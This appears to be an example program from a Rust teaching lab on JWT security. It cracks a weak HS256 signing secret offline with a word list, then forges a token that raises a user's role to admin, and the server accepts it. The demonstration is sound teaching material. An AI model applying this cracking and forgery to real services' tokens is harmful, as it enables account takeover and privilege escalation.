//! Finds a weak secret offline, and then signs a forged token with it.

use std::error::Error;

use lab1_token::guess::{secret_of, words};
use lab1_token::jwt::{read_without_a_key, sign, verify};

/// A secret that its owner believed to be strong.
const SECRET: &str = "Summer2026";
const HEADER: &str = r#"{"alg":"HS256"}"#;

fn main() -> Result<(), Box<dyn Error>> {
    let token = sign(SECRET.as_bytes(), HEADER, r#"{"email":"ann@example.test","role":"user"}"#);
    println!("a token:          {token}");
    println!("without a key:    {}", read_without_a_key(&token).unwrap_or_default());
    let found = secret_of(&token, words()).ok_or("the secret is not in the list")?;
    println!("its secret:       {found} (one of {} words, and no server was asked)", words().count());
    let forged = sign(found.as_bytes(), HEADER, r#"{"email":"ann@example.test","role":"admin"}"#);
    println!("a forged token:   {forged}");
    println!("the server reads: {}", verify(SECRET.as_bytes(), &forged)?);
    Ok(())
}
